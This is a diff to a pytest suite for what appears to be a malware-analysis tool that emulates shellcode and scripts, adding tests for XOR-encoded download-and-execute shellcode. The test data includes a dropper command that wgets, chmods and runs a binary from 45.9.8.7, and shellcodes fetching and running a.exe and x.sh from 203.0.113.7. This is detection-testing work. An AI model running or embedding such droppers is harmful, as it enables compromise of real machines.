@@ -12,6 +12,8 @@ from typing import Any
 import pytest
 
 from eudaemon.cli import main
+from payload.shellcode.assembling import under_xor
+from payload.shellcode.shellcodes import SHELLCODES, download_and_execute
 
 SCRIPT = b"#!/bin/sh\nwget http://45.9.8.7/x.mips; chmod 777 x.mips; ./x.mips\necho \x1b[2J\n"
 
@@ -82,6 +84,44 @@ def test_base64_that_is_meant_is_a_layer(
 ) -> None:
     (layer,) = examined(b"echo " + b64encode(inner) + b"\n", tmp_path, capsys)["layers"]
     assert layer.startswith(shown)
+
+
+def test_a_shellcode_for_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "code"
+    path.write_bytes(under_xor(download_and_execute(), 0x99))
+    assert main(["analyze", str(path)]) == 0
+    text = capsys.readouterr().out
+    assert (
+        "shellcode: x86, from byte 0; exits (ExitThread)\ndoes:\n  downloads http://203.0.113.7:8080/a.exe to" in text
+    )
+    assert "xor byte ptr [edi], 0x99" in text
+    assert '; WinExec("c:\\a.exe", 0) = 0x21' in text
+    assert "would download, as machine code:\n  http://203.0.113.7:8080/a.exe  (shellcode)\n" in text
+
+
+def test_a_shellcode_for_machines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    found = examined(SHELLCODES["linux x86-64 command"][1](), tmp_path, capsys)["shellcode"]
+    assert found["emulated"]
+    assert [b["kind"] for b in found["behaviours"]] == ["executes"]
+    assert found["report"]["architecture"] == "x86-64"
+    # What the command would fetch is found as in a script.
+    assert found["downloads"] == [{"url": "http://203.0.113.7/x.sh", "tool": "wget", "name": "x.sh"}]
+
+
+def test_without_unicorn_signatures_are_left(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("eudaemon.payload.shellcode.examine.find_spec", lambda _: None)
+    path = tmp_path / "code"
+    path.write_bytes(under_xor(download_and_execute(), 0x99))
+    assert main(["analyze", str(path)]) == 0
+    text = capsys.readouterr().out
+    assert "shellcode signatures (unicorn is not installed: nothing was emulated):\n" in text
+    assert "downloads http://203.0.113.7:8080/a.exe" in text
+
+
+def test_a_program_is_no_shellcode(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert examined(b"\x7fELF\x02\x01\x01" + bytes(60), tmp_path, capsys)["shellcode"] == {}
 
 
 def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
